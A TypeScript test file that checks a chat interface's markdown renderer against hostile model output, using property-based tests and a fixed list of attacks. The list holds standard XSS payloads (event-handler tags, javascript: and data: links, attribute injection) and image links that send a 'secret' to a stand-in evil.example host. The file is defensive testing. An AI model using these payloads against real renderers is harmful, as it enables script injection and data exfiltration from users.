import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { safeLink } from "../chat/markdown";
import { renderMarkdown } from "../chat/view/rich";

function draw(source: string): HTMLElement {
  const box = document.createElement("div");
  box.append(renderMarkdown(source, (n) => (n === 1 ? Object.assign(document.createElement("button"), { textContent: "1" }) : null)));
  return box;
}

const ALLOWED = new Set(["P", "PRE", "CODE", "STRONG", "EM", "BR", "UL", "OL", "LI", "A", "BUTTON"]);
const ALLOWED_ATTRIBUTES = new Set(["href", "target", "rel", "class", "start", "tabindex"]);

function expectHarmless(box: HTMLElement): void {
  for (const element of box.querySelectorAll("*")) {
    expect(ALLOWED).toContain(element.tagName);
    for (const name of element.getAttributeNames()) expect(ALLOWED_ATTRIBUTES).toContain(name);
    const href = element.getAttribute("href");
    if (href !== null) expect(href).toMatch(/^https?:\/\//);
  }
}

const ATTACKS = [
  "<img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<svg/onload=alert(1)>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](java\tscript:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD4=)",
  "[click](vbscript:x)",
  "[click](//evil.example)",
  "[click](https://user:pass@evil.example/)",
  "![x](https://evil.example/steal?q=secret)",
  "![x][ref]\n\n[ref]: https://evil.example/steal",
  "[![x](https://evil.example/a.png)](https://evil.example)",
  "[x](https://evil.example/\" onmouseover=\"alert(1))",
  "`<b>`\n```html\n<iframe src=javascript:alert(1)>\n```",
  "**<a href=javascript:alert(1)>x</a>**",
  "- <details open ontoggle=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];

describe("hostile answers", () => {
  it.each(ATTACKS)("%s makes nothing but text and http links", (source) => {
    const box = draw(source);
    expectHarmless(box);
    expect(box.querySelector("img, script, svg, iframe, details")).toBeNull();
  });

  it("any text at all makes only known nodes", () => {
    const soup = fc.array(fc.constantFrom("*", "**", "_", "`", "```", "\n", "[", "](", ")", "!", "<", ">", "http://", "https://a.b", "1. ", "- ", "# ", "[1]", "\\", "x", "ж", " ", "javascript:"), { maxLength: 80 });
    fc.assert(fc.property(soup, (parts) => expectHarmless(draw(parts.join("")))));
  });

  it("loses no words", () => {
    const word = fc.constantFrom("alpha", "**beta**", "*gamma*", "`delta`", "https://a.example/x", "[1]", "[7]");
    fc.assert(
      fc.property(fc.array(word, { minLength: 1, maxLength: 30 }), (words) => {
        const shown = draw(words.join(" ")).textContent.replaceAll("\u2060", " ").replace(/^ 1/, "1");
        expect(shown).toBe(words.join(" ").replace(/[*`]/g, "").replaceAll("[1]", "1").replace(/^\[7\]/, " [7]"));
      }),
    );
  });

  it("an answer of nothing but openers is still quick to read", () => {
    for (const piece of ["**", "[", "_ ", "`", "![", "[a](", "*a "]) expectHarmless(draw(piece.repeat(4000 / piece.length)));
  });
});

describe("links", () => {
  it("show their whole address beside their words", () => {
    const box = draw("See [our shop](https://shop.example/returns).");
    expect(box.textContent).toBe("See our shop (https://shop.example/returns).");
    expect(box.querySelector("a")?.rel).toBe("noopener noreferrer nofollow");
  });

  it("cannot pretend to be another address", () => {
    expect(draw("[https://bank.example](https://evil.example/)").textContent).toBe("https://bank.example (https://evil.example)");
  });

  it("show a look-alike host as it is resolved", () => {
    expect(safeLink("https://раураl.example/")?.shown).toMatch(/^https:\/\/xn--/);
  });

  it("keep hidden and reordering characters encoded", () => {
    expect(safeLink("https://a.example/%E2%80%AEgpj")?.shown).toBe("https://a.example/%E2%80%AEgpj");
  });

  it("read a Russian path and leave the sentence's full stop out", () => {
    expect(draw("Смотрите https://a.example/доставка.").querySelector("a")?.textContent).toBe("https://a.example/доставка");
  });
});

describe("the subset", () => {
  it("bold, italic, code, lists, fences, headings, breaks", () => {
    const box = draw("## Steps\n1. **Open** the *box*\n2. Run `make`\n\n- a\n- b\n\n```sh\nls <x>\n```\nlast\nline");
    const tags = Array.from(box.querySelectorAll("*"), (element) => element.tagName.toLowerCase());
    expect(tags).toEqual(["p", "ol", "li", "strong", "em", "li", "code", "ul", "li", "li", "pre", "code", "p", "br"]);
    expect(box.querySelector("pre")?.textContent).toBe("ls <x>");
  });

  it("a list that starts at 3 says so, and an unclosed fence runs on", () => {
    expect(draw("3. c\n4. d").querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(draw("```\na\n\nb").querySelector("pre")?.textContent).toBe("a\n\nb");
  });

  it("citation marks become nodes only when there is a source", () => {
    expect(draw("Yes [1], maybe [2].").querySelectorAll("button")).toHaveLength(1);
    expect(draw("Yes [1], maybe [2].").textContent).toBe("Yes\u20601, maybe [2].");
  });

  it("stars and underscores in ordinary words stay", () => {
    expect(draw("2 * 3 * 4 and snake_case_name").textContent).toBe("2 * 3 * 4 and snake_case_name");
  });
});
